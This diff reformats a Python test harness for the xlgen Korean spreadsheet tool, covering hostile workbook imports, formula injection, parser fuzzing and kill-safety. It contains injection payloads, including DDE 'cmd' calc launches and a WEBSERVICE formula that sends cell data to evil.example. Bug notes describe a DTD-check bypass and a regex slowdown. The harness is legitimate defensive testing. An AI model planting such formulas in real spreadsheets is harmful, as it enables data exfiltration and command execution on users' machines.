     "B4": "A DOCTYPE placed after an XML comment longer than 4 KB (legal XML) is not seen by "
-          "`check_container`, which looks for \"<!DOCTYPE\"/\"<!ENTITY\" only in the first 4096 "
-          "bytes of each part. Entity declarations behind it are still stopped by defusedxml when "
-          "openpyxl parses the part (refused, \"통합문서를 열 수 없습니다 (ValueError)\" — a vague "
-          "message), but an external DTD reference (<!DOCTYPE worksheet SYSTEM \"http://...\">) "
-          "in any part, or any DTD in a part openpyxl never parses (_rels/.rels), is accepted "
-          "and the import goes on (exit 0). Nothing was fetched (a local listener saw no "
-          "connection) and nothing leaked, so the impact is low, but the stated rule \"a "
-          "workbook never needs a DTD\" is not enforced.",
+    '`check_container`, which looks for "<!DOCTYPE"/"<!ENTITY" only in the first 4096 '
+    "bytes of each part. Entity declarations behind it are still stopped by defusedxml when "
+    'openpyxl parses the part (refused, "통합문서를 열 수 없습니다 (ValueError)" — a vague '
+    'message), but an external DTD reference (<!DOCTYPE worksheet SYSTEM "http://...">) '
+    "in any part, or any DTD in a part openpyxl never parses (_rels/.rels), is accepted "
+    "and the import goes on (exit 0). Nothing was fetched (a local listener saw no "
+    'connection) and nothing leaked, so the impact is low, but the stated rule "a '
+    'workbook never needs a DTD" is not enforced.',
     "B5": "`importer._has_dtd` (added in 18039b8 to fix B4) reads a part's prolog in 64 KB "
-          "chunks and, after each chunk, runs `re.sub(rb\"<!--.*?-->|<\\?.*?\\?>\", ...)` over "
-          "everything read so far. Every \"<?\" without a closing \"?>\" makes the lazy `.*?` scan "
-          "to the end, so one pass is quadratic and the passes add up to worse: a prolog of "
-          "\"<?abc<?de…\" of 64 KB takes 3 s, 128 KB 17 s, 256 KB 112 s (measured on "
-          "check_container alone); a 300 KB part (a ~100 KB file, under every size and ratio "
-          "limit) keeps `xlgen import` busy for minutes, and the regex cannot be interrupted. "
-          "Nothing is written (the store is untouched), but the import never answers. A scan "
-          "that skips each comment/PI once (find the closing marker from where it starts, stop "
-          "at the first unclosed one) is linear.",
+    'chunks and, after each chunk, runs `re.sub(rb"<!--.*?-->|<\\?.*?\\?>", ...)` over '
+    'everything read so far. Every "<?" without a closing "?>" makes the lazy `.*?` scan '
+    "to the end, so one pass is quadratic and the passes add up to worse: a prolog of "
+    '"<?abc<?de…" of 64 KB takes 3 s, 128 KB 17 s, 256 KB 112 s (measured on '
+    "check_container alone); a 300 KB part (a ~100 KB file, under every size and ratio "
+    "limit) keeps `xlgen import` busy for minutes, and the regex cannot be interrupted. "
+    "Nothing is written (the store is untouched), but the import never answers. A scan "
+    "that skips each comment/PI once (find the closing marker from where it starts, stop "
+    "at the first unclosed one) is linear.",
 }
 
 
-def hostile_workbook_trial(bench: Bench, case: HostileCase, runs: int, rng: random.Random,
-                           workdir: Path, variants: list[str] | None = None,
-                           time_bound: float = TIME_BOUND, timeout: float | None = None) -> TrialResult:
+def hostile_workbook_trial(
+    bench: Bench,
+    case: HostileCase,
+    runs: int,
+    rng: random.Random,
+    workdir: Path,
+    variants: list[str] | None = None,
+    time_bound: float = TIME_BOUND,
+    timeout: float | None = None,
+) -> TrialResult:
     """Give `xlgen import` hostile workbooks; each must be refused (exit 1, Korean message)
     within TIME_BOUND and RSS_BOUND_MB, and leave the store byte-for-byte unchanged."""
     result = TrialResult("1 hostile workbook", case.name)
@@ -947,8 +1184,12 @@ def hostile_workbook_trial(bench: Bench, case: HostileCase, runs: int, rng: rand
         hits = listener().hits
         run = run_xlgen(["import", str(path)], db=db, timeout=timeout or case.timeout)
         problem = unexpected(run)
-        harmless = (problem is None and run.code == 0 and variant in case.may_accept
-                    and "변경 없음" in run.out)
+        harmless = (
+            problem is None
+            and run.code == 0
+            and variant in case.may_accept
+            and "변경 없음" in run.out
+        )
         if problem is None and run.code != 1 and not harmless:
             problem = f"not refused: exit {run.code}: {run.out.strip()[:160]}"
         if problem is None and run.seconds > time_bound:
@@ -980,10 +1221,19 @@ def hostile_workbook_trial(bench: Bench, case: HostileCase, runs: int, rng: rand
                 outcome = "unexpected error (exit 2)"
             else:
                 outcome = "FAILED"
-            result.add(outcome + (f" — bug {bug}" if bug else ""), failure=f"{variant}: {problem}",
-                       seconds=run.seconds, rss_mb=run.rss_mb, bug=bug)
+            result.add(
+                outcome + (f" — bug {bug}" if bug else ""),
+                failure=f"{variant}: {problem}",
+                seconds=run.seconds,
+                rss_mb=run.rss_mb,
+                bug=bug,
+            )
         elif harmless:
-            result.add("accepted, nothing to import (exit 0, 변경 없음)", seconds=run.seconds, rss_mb=run.rss_mb)
+            result.add(
+                "accepted, nothing to import (exit 0, 변경 없음)",
+                seconds=run.seconds,
+                rss_mb=run.rss_mb,
+            )
         else:
             result.add("refused cleanly (exit 1)", seconds=run.seconds, rss_mb=run.rss_mb)
         path.unlink(missing_ok=True)
@@ -994,23 +1244,35 @@ def hostile_workbook_trial(bench: Bench, case: HostileCase, runs: int, rng: rand
 # =========================================================================== 2. formula injection
 
 PAYLOADS = {
-    "=": ['=HYPERLINK("http://evil.example/x","클릭")', "=1+1", "=cmd|' /C calc'!A0",
-          '=WEBSERVICE("http://evil.example/?"&A1)'],
+    "=": [
+        '=HYPERLINK("http://evil.example/x","클릭")',
+        "=1+1",
+        "=cmd|' /C calc'!A0",
+        '=WEBSERVICE("http://evil.example/?"&A1)',
+    ],
     "+": ["+1", "+A1", "+1+cmd|' /C calc'!A0"],
     "-": ["-2", "-A1*2", "-2+3"],
     "@": ["@SUM(1)", "@A1", "@SUM(1+1)*cmd|' /C calc'!A0"],
 }
 _EVAL_SLOTS = [  # (role, original text in tests/data/evaluation/clean.txt, prefix)
-    ("department", "▢ 기획예산과", "="), ("department", "▢ 문화예술과", "+"),
-    ("department", "▢ 관광진흥과", "-"), ("department", "▢ 도로관리과", "@"),
-    ("project", "건전재정 운영 기반 \n강화", "="), ("project", "생활문화 \n활성화", "-"),
-    ("project", "구립 미술관 \n운영 내실화", "@"), ("project", "성과중심 \n조직문화 정착", "+"),
-    ("indicator", "지방채 상환 목표 \n달성도", "="), ("indicator", "성과평가 \n결과 환류", "+"),
-    ("indicator", "생활문화동아리 \n지원", "-"), ("indicator", "미술관 운영수지 \n개선액", "@"),
+    ("department", "▢ 기획예산과", "="),
+    ("department", "▢ 문화예술과", "+"),
+    ("department", "▢ 관광진흥과", "-"),
+    ("department", "▢ 도로관리과", "@"),
+    ("project", "건전재정 운영 기반 \n강화", "="),
+    ("project", "생활문화 \n활성화", "-"),
+    ("project", "구립 미술관 \n운영 내실화", "@"),
+    ("project", "성과중심 \n조직문화 정착", "+"),
+    ("indicator", "지방채 상환 목표 \n달성도", "="),
+    ("indicator", "성과평가 \n결과 환류", "+"),
+    ("indicator", "생활문화동아리 \n지원", "-"),
+    ("indicator", "미술관 운영수지 \n개선액", "@"),
 ]
 _PLAN_SLOTS = [  # in tests/data/plan/spaces.txt
-    ("policy goal", "민원 서비스 품질 향상", "="), ("indicator", "민원 만족도", "+"),
-    ("policy goal", "쓰레기 감량", "-"), ("indicator", "공원 조성 면적", "@"),
+    ("policy goal", "민원 서비스 품질 향상", "="),
+    ("indicator", "민원 만족도", "+"),
+    ("policy goal", "쓰레기 감량", "-"),
+    ("indicator", "공원 조성 면적", "@"),
     ("strategic goal", "깨끗한 환경 도시 조성", "="),
 ]
 
@@ -1018,7 +1280,10 @@ _PLAN_SLOTS = [  # in tests/data/plan/spaces.txt
 def injection_documents(rng: random.Random, folder: Path) -> dict[str, Path]:
     """seeds-style folders `inj-eval/` and `inj-plan/` whose names start with = + - @."""
     docs = {}
-    for key, sample, slots in (("inj-eval", EVAL_SAMPLE, _EVAL_SLOTS), ("inj-plan", PLAN_SAMPLE, _PLAN_SLOTS)):
+    for key, sample, slots in (
+        ("inj-eval", EVAL_SAMPLE, _EVAL_SLOTS),
+        ("inj-plan", PLAN_SAMPLE, _PLAN_SLOTS),
+    ):
         text = sample.read_text(encoding="utf-8")
         for _role, original, prefix in slots:
             assert original in text, original
@@ -1046,7 +1311,12 @@ def _hostile_names(doc: Any) -> dict[str, list[str]]:
 
     if isinstance(doc, Evaluation):
         for b, d, p, i in doc.indicator_rows():
-            note("bureau", b.name), note("department", d.name), note("project", p.name), note("indicator", i.name)
+            (
+                note("bureau", b.name),
+                note("department", d.name),
+                note("project", p.name),
+                note("indicator", i.name),
+            )
     else:
         for g, p, name in doc.indicator_rows():
             note("strategic goal", g.name), note("policy goal", p.name), note("indicator", name)
@@ -1069,13 +1339,19 @@ def scan_workbook(path: Path, hostile: set[str]) -> tuple[int, list[str]]:
                 v = c.value
                 if c.data_type == "f":
                     f = str(v)
-                    if any(m in f for m in markers) or any(h and f == "=" + h.lstrip("=") for h in hostile):
-                        problems.append(f"{path.name} {ws.title}!{c.coordinate} is a formula: {f[:80]}")
+                    if any(m in f for m in markers) or any(
+                        h and f == "=" + h.lstrip("=") for h in hostile
+                    ):
+                        problems.append(
+                            f"{path.name} {ws.title}!{c.coordinate} is a formula: {f[:80]}"
+                        )
                 elif isinstance(v, str) and v.startswith(FORMULA_PREFIXES):
                     if c.data_type == "s":
                         as_text += 1
                     else:
-                        problems.append(f"{path.name} {ws.title}!{c.coordinate}: type {c.data_type!r}")
+                        problems.append(
+                            f"{path.name} {ws.title}!{c.coordinate}: type {c.data_type!r}"
+                        )
     return as_text, problems
 
 
@@ -1099,19 +1375,28 @@ def note_cells_are_text(path: Path, notes: dict[str, str]) -> list[str]:
     return problems
 
 
-def injection_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path) -> list[TrialResult]:
+def injection_trial(
+    bench: Bench, runs: int, rng: random.Random, workdir: Path
+) -> list[TrialResult]:
     """Names starting with = + - @ in documents, through parse → build (xlsx) and CSV, and
     notes typed so in an imported workbook → import → next build."""
     from xlgen.parse import parse_file
 
     started = time.monotonic()
-    docs_row = TrialResult("2 formula injection", "document names starting with = + - @ → xlsx "
-                           "(whole + per-department workbooks, evaluation and plan)")
+    docs_row = TrialResult(
+        "2 formula injection",
+        "document names starting with = + - @ → xlsx "
+        "(whole + per-department workbooks, evaluation and plan)",
+    )
     csv_row = TrialResult("2 formula injection", "the same names → `xlgen parse --format csv`")
-    note_eq = TrialResult("2 formula injection", "imported workbook with 비고 \"=…\" as text, 비고 as a real "
-                          "formula, 실적 \"=1+1\" (plus one ordinary change)")
-    note_other = TrialResult("2 formula injection", "imported notes \"+1+1\", \"-2\", \"@SUM(1)\" → "
-                             "store → next build")
+    note_eq = TrialResult(
+        "2 formula injection",
+        'imported workbook with 비고 "=…" as text, 비고 as a real '
+        'formula, 실적 "=1+1" (plus one ordinary change)',
+    )
+    note_other = TrialResult(
+        "2 formula injection", 'imported notes "+1+1", "-2", "@SUM(1)" → store → next build'
+    )
     totals: Counter = Counter()
     for n in range(runs):
         folder = workdir / f"inj-{n}"
@@ -1134,7 +1419,9 @@ def injection_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path) 
             if key == "inj-eval":
                 args.append("--by-department")
             run = run_xlgen(args, db=db)
-            problem = unexpected(run) or (None if run.code == 0 else f"build exit {run.code}: {run.err[:200]}")
+            problem = unexpected(run) or (
+                None if run.code == 0 else f"build exit {run.code}: {run.err[:200]}"
+            )
             cells = 0
             if problem is None:
                 for book in sorted((folder / "out" / key).rglob("*.xlsx")):
@@ -1145,10 +1432,16 @@ def injection_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path) 
                         problem = "; ".join(problems[:3])
                         break
                 if cells < len(hostile):
-                    problem = problem or f"only {cells} hostile cells found for {len(hostile)} names"
+                    problem = (
+                        problem or f"only {cells} hostile cells found for {len(hostile)} names"
+                    )
             totals["cells"] += cells
-            docs_row.add("every such name a text cell, none a formula" if not problem else "FAILED",
-                         failure=problem and f"{key}: {problem}", seconds=run.seconds, rss_mb=run.rss_mb)
+            docs_row.add(
+                "every such name a text cell, none a formula" if not problem else "FAILED",
+                failure=problem and f"{key}: {problem}",
+                seconds=run.seconds,
+                rss_mb=run.rss_mb,
+            )
             if cover not in docs_row.notes:
                 docs_row.notes.append(cover)
 
@@ -1168,8 +1461,12 @@ def injection_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path) 
                 if escaped == 0:
                     problem = problem or "no escaped field found"
             totals["fields"] += escaped
-            csv_row.add("every such field escaped as '=…, '+…, '-…, '@…" if not problem else "FAILED",
-                        failure=problem and f"{key}: {problem}", seconds=run.seconds, rss_mb=run.rss_mb)
+            csv_row.add(
+                "every such field escaped as '=…, '+…, '-…, '@…" if not problem else "FAILED",
+                failure=problem and f"{key}: {problem}",
+                seconds=run.seconds,
+                rss_mb=run.rss_mb,
+            )
 
         # Notes typed by staff in the whole workbook of the 2019 store: "=..." as a text cell,
         # a real formula, and 실적 "=1+1", next to one ordinary change: all refused together.
@@ -1177,9 +1474,15 @@ def injection_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path) 
         chosen = rng.sample(bench.records, 6)
         eq_text, eq_formula, eq_actual, plain = (c[0] for c in chosen[:4])
         book = folder / "notes" / "eq.xlsx"
-        edit_workbook(bench.workbook, book, note={eq_text: rng.choice(PAYLOADS["="])},
-                      note_formula={eq_formula: rng.choice(["=1+1", '=HYPERLINK("http://evil.example","x")'])},
-                      actual={eq_actual: "=1+1", plain: (chosen[3][1] or 0) + 1})
+        edit_workbook(
+            bench.workbook,
+            book,
+            note={eq_text: rng.choice(PAYLOADS["="])},
+            note_formula={
+                eq_formula: rng.choice(["=1+1", '=HYPERLINK("http://evil.example","x")'])
+            },
+            actual={eq_actual: "=1+1", plain: (chosen[3][1] or 0) + 1},
+        )
         before = store_fingerprint(store)
         run = run_xlgen(["import", str(book)], db=store)
         problem = unexpected(run)
@@ -1189,16 +1492,25 @@ def injection_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path) 
             problem = "not every formula cell was named: " + run.err[:300]
         unchanged = store_fingerprint(store)[0] == before[0]
         note_eq.store_checked(unchanged, lost=not unchanged)
-        note_eq.add("refused cleanly (exit 1), each cell named, store unchanged"
-                    if not problem and unchanged else "FAILED",
-                    failure=problem or (None if unchanged else "the store changed"),
-                    seconds=run.seconds, rss_mb=run.rss_mb)
-        others = {chosen[4][0]: rng.choice(["+1+1", "+A1"]), chosen[5][0]: rng.choice(["-2", "-A1*2"]),
-                  chosen[0][0]: rng.choice(["@SUM(1)", "@A1"])}
+        note_eq.add(
+            "refused cleanly (exit 1), each cell named, store unchanged"
+            if not problem and unchanged
+            else "FAILED",
+            failure=problem or (None if unchanged else "the store changed"),
+            seconds=run.seconds,
+            rss_mb=run.rss_mb,
+        )
+        others = {
+            chosen[4][0]: rng.choice(["+1+1", "+A1"]),
+            chosen[5][0]: rng.choice(["-2", "-A1*2"]),
+            chosen[0][0]: rng.choice(["@SUM(1)", "@A1"]),
+        }
         book = folder / "notes" / "other.xlsx"
         edit_workbook(bench.workbook, book, note=others)
         run = run_xlgen(["import", str(book)], db=store)
-        problem = unexpected(run) or (None if run.code == 0 else f"import exit {run.code}: {run.err[:200]}")
+        problem = unexpected(run) or (
+            None if run.code == 0 else f"import exit {run.code}: {run.err[:200]}"
+        )
         if problem is None:
             from xlgen.store import Store
 
@@ -1216,10 +1528,16 @@ def injection_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path) 
                 problems += note_cells_are_text(rebuilt, others)
                 if problems:
                     problem = "; ".join(problems[:3])
-        note_other.add("applied; stored as text; next build writes text cells" if not problem else "FAILED",
-                       failure=problem, seconds=run.seconds, rss_mb=run.rss_mb)
+        note_other.add(
+            "applied; stored as text; next build writes text cells" if not problem else "FAILED",
+            failure=problem,
+            seconds=run.seconds,
+            rss_mb=run.rss_mb,
+        )
         shutil.rmtree(folder, ignore_errors=True)
-    docs_row.notes.insert(0, f"{totals['cells']} cells holding such names checked in {totals['books']} workbooks")
+    docs_row.notes.insert(
+        0, f"{totals['cells']} cells holding such names checked in {totals['books']} workbooks"
+    )
     csv_row.notes.append(f"{totals['fields']} escaped fields checked")
     for row in (docs_row, csv_row, note_eq, note_other):
         row.elapsed = time.monotonic() - started
@@ -1228,8 +1546,23 @@ def injection_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path) 
 
 # =========================================================================== 3. parsers
 
-MUTATIONS = ("delete", "duplicate", "swap", "digits", "space_on", "space_off", "marker_move",
-             "marker_copy", "heading_move", "join", "split", "tabs", "truncate", "block_move", "blank")
+MUTATIONS = (
+    "delete",
+    "duplicate",
+    "swap",
+    "digits",
+    "space_on",
+    "space_off",
+    "marker_move",
+    "marker_copy",
+    "heading_move",
+    "join",
+    "split",
+    "tabs",
+    "truncate",
+    "block_move",
+    "blank",
+)
 _MARKER = re.compile(r"^\s*(▢|□|◇|◦|○|※)")
 _HEADING = re.compile(r"^\s*(Ⅰ|Ⅱ|Ⅲ|I{1,3}\.|\d+\.\s|가\.|나\.|다\.|전략목표명|주요사업명|실국명)")
 
@@ -1257,9 +1590,9 @@ def mutate(lines: list[str], edits: Iterable[tuple[str, int, int, int]]) -> list
             lines = [""]
         i, j = i % len(lines), j % len(lines)
         if op == "delete":
-            del lines[i:i + 1 + salt % 20]
+            del lines[i : i + 1 + salt % 20]
         elif op == "duplicate":
-            lines[i:i] = lines[i:i + 1 + salt % 10]
+            lines[i:i] = lines[i : i + 1 + salt % 10]
         elif op == "swap":
             lines[i], lines[j] = lines[j], lines[i]
         elif op == "digits":
@@ -1278,17 +1611,21 @@ def mutate(lines: list[str], edits: Iterable[tuple[str, int, int, int]]) -> list
                     del lines[k]
                 lines.insert(j % (len(lines) + 1), (" " if salt % 2 else "") + text.lstrip(" "))
         elif op == "join" and i + 1 < len(lines):
-            lines[i:i + 2] = [lines[i] + ("\t" if salt % 3 == 0 else " " * (salt % 3)) + lines[i + 1]]
+            lines[i : i + 2] = [
+                lines[i] + ("\t" if salt % 3 == 0 else " " * (salt % 3)) + lines[i + 1]
+            ]
         elif op == "split" and lines[i]:
             cut = salt % len(lines[i])
-            lines[i:i + 1] = [lines[i][:cut], lines[i][cut:]]
+            lines[i : i + 1] = [lines[i][:cut], lines[i][cut:]]
         elif op == "tabs":
-            lines[i] = lines[i].replace("\t", "  ") if "\t" in lines[i] else lines[i].replace("  ", "\t")
+            lines[i] = (
+                lines[i].replace("\t", "  ") if "\t" in lines[i] else lines[i].replace("  ", "\t")
+            )
         elif op == "truncate":
-            del lines[max(1, i):]
+            del lines[max(1, i) :]
         elif op == "block_move":
-            block = lines[i:i + 1 + salt % 40]
-            del lines[i:i + 1 + salt % 40]
+            block = lines[i : i + 1 + salt % 40]
+            del lines[i : i + 1 + salt % 40]
             k = j % (len(lines) + 1)
             lines[k:k] = block
         elif op == "blank":
@@ -1313,7 +1650,9 @@ def _seed_material() -> dict[str, tuple[list[str], dict]]:
     return out
 
 
-def classify_parse(lines: list[str], corrections: dict | None, name: str) -> tuple[str, str | None, float]:
+def classify_parse(
+    lines: list[str], corrections: dict | None, name: str
+) -> tuple[str, str | None, float]:
     """Parse through the dispatcher with the per-document timer: (outcome, failure, seconds)."""
     from xlgen.errors import XlgenError
     from xlgen.model import Evaluation
@@ -1338,15 +1677,22 @@ def classify_parse(lines: list[str], corrections: dict | None, name: str) -> tup
         import traceback
 
         where = traceback.extract_tb(exc.__traceback__)[-1]
-        return "traceback", f"{type(exc).__name__}: {exc} at {Path(where.filename).name}:{where.lineno}", \
-            time.perf_counter() - start
+        return (
+            "traceback",
+            f"{type(exc).__name__}: {exc} at {Path(where.filename).name}:{where.lineno}",
+            time.perf_counter() - start,
+        )
     finally:
         signal.setitimer(signal.ITIMER_REAL, 0)
     seconds = time.perf_counter() - start
     n = len(doc.lines)
     for w in parsed.warnings:
         if not w.message or (w.line is not None and not 1 <= w.line <= n):
-            return "malformed result", f"warning line {w.line} outside 1..{n}: {w.message!r}", seconds
+            return (
+                "malformed result",
+                f"warning line {w.line} outside 1..{n}: {w.message!r}",
+                seconds,
+            )
     records = len(parsed.indicator_rows())
     if isinstance(parsed, Evaluation):
         for d in parsed.departments():
@@ -1370,32 +1716,51 @@ def _child_parser_fuzz(examples: int, seed: int, workdir: Path) -> dict[str, Any
     counts: Counter = Counter()
     failures: list[str] = []
     slowest = [0.0]
-    edit = st.tuples(st.sampled_from(MUTATIONS), st.integers(0, 10**6), st.integers(0, 10**6),
-                     st.integers(0, 999))
+    edit = st.tuples(
+        st.sampled_from(MUTATIONS),
+        st.integers(0, 10**6),
+        st.integers(0, 10**6),
+        st.integers(0, 999),
+    )
     current = workdir / "current.txt"
 
     @hseed(seed)
-    @settings(max_examples=examples, deadline=None, database=None, phases=[Phase.generate],
-              suppress_health_check=list(HealthCheck))
-    @given(st.sampled_from(sorted(material)), st.lists(edit, min_size=1, max_size=30), st.booleans())
+    @settings(
+        max_examples=examples,
+        deadline=None,
+        database=None,
+        phases=[Phase.generate],
+        suppress_health_check=list(HealthCheck),
+    )
+    @given(
+        st.sampled_from(sorted(material)), st.lists(edit, min_size=1, max_size=30), st.booleans()
+    )
     def fuzz(kind: str, edits: list, with_corrections: bool) -> None:
         lines, corrections = material[kind]
         mutated = mutate(lines, edits)
         current.write_text("\n".join(mutated), encoding="utf-8")
-        outcome, failure, seconds = classify_parse(mutated, corrections if with_corrections else None,
-                                                   f"{kind}-mutant.txt")
+        outcome, failure, seconds = classify_parse(
+            mutated, corrections if with_corrections else None, f"{kind}-mutant.txt"
+        )
         counts[f"{kind}: {outcome}"] += 1
         slowest[0] = max(slowest[0], seconds)
         if failure:
             saved = workdir / f"failure-{len(failures):03d}.txt"
             shutil.copyfile(current, saved)
-            failures.append(f"{kind} {outcome}: {failure} (document: {saved.name}, edits {edits[:6]}…)")
+            failures.append(
+                f"{kind} {outcome}: {failure} (document: {saved.name}, edits {edits[:6]}…)"
+            )
 
     fuzz()
     current.unlink(missing_ok=True)
     with open("/proc/self/status") as fh:  # VmHWM: this program's own peak
         rss = next((int(line.split()[1]) / 1024 for line in fh if line.startswith("VmHWM:")), 0.0)
-    return {"counts": dict(counts), "failures": failures, "max_seconds": slowest[0], "max_rss_mb": rss}
+    return {
+        "counts": dict(counts),
+        "failures": failures,
+        "max_seconds": slowest[0],
+        "max_rss_mb": rss,
+    }
 
 
 def parser_fuzz_trial(examples: int, seed: int, workdir: Path) -> TrialResult:
@@ -1404,14 +1769,28 @@ def parser_fuzz_trial(examples: int, seed: int, workdir: Path) -> TrialResult:
     workdir.mkdir(parents=True, exist_ok=True)
     out = workdir / "fuzz.json"
     out.unlink(missing_ok=True)
-    result = TrialResult("3 parsers", "Hypothesis mutations of seeds/2019 and seeds/plan-seogu "
-                         "(lines deleted/duplicated/swapped/joined/split, digits corrupted, page-start "
-                         "spaces, ▢ markers and headings moved, truncation) → parse_text")
+    result = TrialResult(
+        "3 parsers",
+        "Hypothesis mutations of seeds/2019 and seeds/plan-seogu "
+        "(lines deleted/duplicated/swapped/joined/split, digits corrupted, page-start "
+        "spaces, ▢ markers and headings moved, truncation) → parse_text",
+    )
     started = time.monotonic()
     proc = subprocess.Popen(
-        [sys.executable, str(Path(__file__).resolve()), "parser-fuzz", str(examples), str(seed),
-         str(workdir), str(out), str(MEMORY_CEILING)],
-        env=child_env(), cwd=str(workdir), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+        [
+            sys.executable,
+            str(Path(__file__).resolve()),
+            "parser-fuzz",
+            str(examples),
+            str(seed),
+            str(workdir),
+            str(out),
+            str(MEMORY_CEILING),
+        ],
+        env=child_env(),
+        cwd=str(workdir),
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
     )
     try:
         _, err = proc.communicate(timeout=120 + examples * 0.5)
@@ -1481,16 +1860,27 @@ def _random_document_bytes(rng: random.Random, kind: str, folder: Path, n: int) 
     return path
 
 
-CLI_BYTES_KINDS = ["random bytes", "random bytes after a UTF-8 BOM", "random bytes after a UTF-16 BOM",
-                   "random Hangul/ASCII text", "seed with random bytes changed", "seed with ASCII bytes changed",
-                   "seed as CP949 with bytes changed", "seed as UTF-16, cut at an odd byte",
-                   "NUL bytes inside the seed", "empty file", "over 20 MB"]
+CLI_BYTES_KINDS = [
+    "random bytes",
+    "random bytes after a UTF-8 BOM",
+    "random bytes after a UTF-16 BOM",
+    "random Hangul/ASCII text",
+    "seed with random bytes changed",
+    "seed with ASCII bytes changed",
+    "seed as CP949 with bytes changed",
+    "seed as UTF-16, cut at an odd byte",
+    "NUL bytes inside the seed",
+    "empty file",
+    "over 20 MB",
+]
 
 
 def cli_bytes_trial(runs: int, rng: random.Random, workdir: Path, workers: int = 2) -> TrialResult:
     """`xlgen parse FILE` on random bytes: exit 0, or exit 1 with one Korean line."""
     workdir.mkdir(parents=True, exist_ok=True)
-    result = TrialResult("3 parsers", "`xlgen parse` on random-bytes files (" + ", ".join(CLI_BYTES_KINDS) + ")")
+    result = TrialResult(
+        "3 parsers", "`xlgen parse` on random-bytes files (" + ", ".join(CLI_BYTES_KINDS) + ")"
+    )
     started = time.monotonic()
     jobs = []
     for n in range(runs):
@@ -1507,9 +1897,17 @@ def cli_bytes_trial(runs: int, rng: random.Random, workdir: Path, workers: int =
             problem = unexpected(run)
             if problem is None and run.code == 1 and len(run.err.strip().splitlines()) != 1:
                 problem = f"exit 1 with {len(run.err.strip().splitlines())} lines: {run.err[:200]}"
-            outcome = "FAILED" if problem else ("parsed (exit 0)" if run.code == 0 else "refused: one Korean line (exit 1)")
-            result.add(outcome, failure=problem and f"{kind} ({path.name}, --format {fmt}): {problem}",
-                       seconds=run.seconds, rss_mb=run.rss_mb)
+            outcome = (
+                "FAILED"
+                if problem
+                else ("parsed (exit 0)" if run.code == 0 else "refused: one Korean line (exit 1)")
+            )
+            result.add(
+                outcome,
+                failure=problem and f"{kind} ({path.name}, --format {fmt}): {problem}",
+                seconds=run.seconds,
+                rss_mb=run.rss_mb,
+            )
             if not problem:
                 path.unlink(missing_ok=True)
     result.elapsed = time.monotonic() - started
@@ -1548,8 +1946,11 @@ def workbook_complete(path: Path, records: int | None) -> str | None:
 def build_kill_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path) -> TrialResult:
     """SIGKILL `xlgen build` at random moments; the output path must hold the previous
     complete workbook, a new complete one, or nothing (when there was nothing before)."""
-    result = TrialResult("4 crash safety", "`xlgen build` (whole, or --by-department: 38 files) "
-                         "killed with SIGKILL at a random moment")
+    result = TrialResult(
+        "4 crash safety",
+        "`xlgen build` (whole, or --by-department: 38 files) "
+        "killed with SIGKILL at a random moment",
+    )
     started = time.monotonic()
     out = workdir / "out"
     if workdir.exists():
@@ -1580,7 +1981,9 @@ def build_kill_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path)
             for p in empty_db.parent.glob("store.sqlite*"):
                 p.unlink()
             store = empty_db
-        args = ["build", KEY, "--out", str(out)] + (["--by-department"] if mode == "by-department" else [])
+        args = ["build", KEY, "--out", str(out)] + (
+            ["--by-department"] if mode == "by-department" else []
+        )
         delay = rng.uniform(0, durations[mode] * 1.1)
         child = Child(args, db=store)
         time.sleep(delay)
@@ -1609,25 +2012,33 @@ def build_kill_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path)
         if check != "ok":
             problems.append(f"store integrity_check: {check}")
         result.store_checked(check == "ok" and not problems, lost=bool(problems))
-        label = ("killed" if killed else "finished before the kill") + (
-            ", empty store" if fresh_store else "") + f" ({mode})"
-        result.add(label if not problems else "FAILED",
-                   failure="; ".join(problems) and f"run {n} ({label}, {delay:.2f} s): " + "; ".join(problems[:3]),
-                   seconds=delay)
+        label = (
+            ("killed" if killed else "finished before the kill")
+            + (", empty store" if fresh_store else "")
+            + f" ({mode})"
+        )
+        result.add(
+            label if not problems else "FAILED",
+            failure="; ".join(problems)
+            and f"run {n} ({label}, {delay:.2f} s): " + "; ".join(problems[:3]),
+            seconds=delay,
+        )
         files.update(kinds)
         result.killed_writing += bool(leftovers)
     result.notes.append(
         f"files at the final paths after the runs: {files['previous']} previous complete, {files['new']} new "
         f"complete, {files['none']} absent (nothing before); leftover .xlgen-*.part temp files: "
         f"{leftovers_total} (never at a final path); {result.killed_writing} runs were killed while "
-        "writing a workbook (their temp file was left)")
+        "writing a workbook (their temp file was left)"
+    )
     result.leftovers = leftovers_total
     result.elapsed = time.monotonic() - started
     return result
 
 
-def _import_edits(bench: Bench, rng: random.Random, count: int, tag: str,
-                  keys: list[str] | None = None) -> dict[str, tuple[Any, Any, str, str]]:
+def _import_edits(
+    bench: Bench, rng: random.Random, count: int, tag: str, keys: list[str] | None = None
+) -> dict[str, tuple[Any, Any, str, str]]:
     """record key → (old actual, new actual, old note, new note)."""
     pool = {r[0]: r for r in bench.records}
     keys = keys or [r[0] for r in rng.sample(bench.records, count)]
@@ -1640,8 +2051,12 @@ def _import_edits(bench: Bench, rng: random.Random, count: int, tag: str,
 
 
 def _write_edits(bench: Bench, edits: dict, dst: Path) -> None:
-    edit_workbook(bench.workbook, dst, actual={k: v[1] for k, v in edits.items()},
-                  note={k: v[3] for k, v in edits.items()})
+    edit_workbook(
+        bench.workbook,
+        dst,
+        actual={k: v[1] for k, v in edits.items()},
+        note={k: v[3] for k, v in edits.items()},
+    )
 
 
 def _values(db: Path) -> tuple[int, dict[str, tuple[Any, str]], int]:
@@ -1650,14 +2065,19 @@ def _values(db: Path) -> tuple[int, dict[str, tuple[Any, str]], int]:
 
     with Store.open(db) as s:
         doc = s.load(KEY)
-        return (s.revision(KEY), {i.key: (i.actual, i.note or "") for _, _, _, i in doc.indicator_rows()},
-                len(s.history(KEY)))
+        return (
+            s.revision(KEY),
+            {i.key: (i.actual, i.note or "") for _, _, _, i in doc.indicator_rows()},
+            len(s.history(KEY)),
+        )
 
 
 def import_kill_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path) -> TrialResult:
     """SIGKILL `xlgen import` at random moments: the store stays at its last committed
